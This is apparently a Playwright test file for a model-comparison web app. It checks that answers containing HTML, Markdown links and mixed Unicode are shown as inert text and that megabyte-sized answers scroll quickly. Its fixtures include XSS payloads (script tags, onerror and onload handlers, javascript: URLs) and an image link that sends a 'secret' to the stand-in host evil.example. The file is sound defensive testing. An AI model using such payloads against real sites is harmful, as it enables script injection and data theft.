"""Answers that would like to be more than text."""

import pytest
from playwright.sync_api import Page, expect

from tests.web.playing import choose, column, run, set_extra, text_of, write

SCRIPTS = [
    "<img src=x onerror=alert(1)><script>alert(2)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><style>*{display:none}</style>",
    "<svg/onload=alert(1)> <a href='javascript:alert(1)'>click</a>",
    "</div></div><h1 id=main>not mine</h1>",
]
MARKDOWN = (
    "[bank](https://evil.example/x) ![pixel](https://evil.example/p.png?secret) [run](javascript:alert(1)) "
    "<img src='https://evil.example/i.png' onerror=alert(1)> <https://evil.example/y> [mail](data:text/html,x)"
)


@pytest.mark.parametrize("text", SCRIPTS)
def test_markup_is_text(page: Page, text: str) -> None:
    choose(page, "demo/echo", "demo/echo")
    write(page, text)
    run(page)
    assert text_of(page, 1) == text
    assert column(page, 1).locator("script, iframe, img, style, svg:not(.glyph)").count() == 0
    page.reload()
    expect(page.locator("answer-column")).to_have_count(2)
    assert text_of(page, 1) == text


def test_markdown_loads_nothing_and_says_where_its_links_lead(page: Page) -> None:
    """The fixture fails for a request to another host."""
    choose(page, "demo/echo", "demo/echo")
    write(page, MARKDOWN)
    run(page)
    column(page, 1).get_by_role("button", name="Show as Markdown").click()
    rendered = column(page, 1).locator(".rendered")
    expect(rendered).to_be_visible()
    assert rendered.locator("img").count() == 0
    links = rendered.locator("a").evaluate_all("nodes => nodes.map(node => [node.href, node.rel, node.target])")
    assert links == [[f"https://evil.example/{path}", "noopener noreferrer", "_blank"] for path in ("x", "y")]
    expect(rendered).to_contain_text("bank (evil.example)")
    expect(rendered).to_contain_text("<img src='https://evil.example/i.png' onerror=alert(1)>")
    expect(rendered).to_contain_text("image: pixel, evil.example")


SCRIPT_OF_SCRIPTS = (
    "ar: مرحبا بالعالم! he: שלום 123 \u202eevil\u202c emoji: 👩‍👩‍👧‍👦🏳️‍🌈 zalgo: z̵̢a̸l̷g̶o tab:\tend nul-ish: \u200b ￿"
)


def test_every_script_comes_as_it_was_sent(page: Page) -> None:
    choose(page, "demo/echo", "demo/echo")
    write(page, SCRIPT_OF_SCRIPTS)
    run(page)
    assert text_of(page, 1) == SCRIPT_OF_SCRIPTS
    write(page, "مرحبا بالعالم")
    run(page)
    assert column(page, 1).locator(".text:not(.thought)").evaluate("node => getComputedStyle(node).direction") == "rtl"


@pytest.mark.parametrize("kind", ["lines", "one word"])
def test_an_answer_of_a_megabyte_stays_fast(page: Page, kind: str) -> None:
    """The echo's words are long, so that the megabyte comes soon; `one word` has no place to break a line at all."""
    line = "x" * 9_990 if kind == "one word" else ("lorem" * 1_000 + "\n")
    text = line * (980_000 // len(line)) if kind == "one word" else (line * (980_000 // len(line))).strip()
    choose(page, "demo/echo", "demo/echo")
    for number in (1, 2):
        set_extra(page, number, '{"delay_ms": 0}')
    page.get_by_label("User's message 1").evaluate(
        "(field, text) => { field.value = text; field.dispatchEvent(new Event('input', { bubbles: true })); }", text
    )
    run(page)
    assert text_of(page, 1) == text
    slowest = page.evaluate(
        """async () => {
            const said = document.querySelector("answer-column .said");
            let slowest = 0;
            for (let step = 0; step < 20; step++) {
                const before = performance.now();
                said.scrollTop = (said.scrollHeight * step) / 20;
                await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
                slowest = Math.max(slowest, performance.now() - before);
            }
            return slowest;
        }"""
    )
    assert slowest < 1_000, f"a step through it took {slowest:.0f} ms"
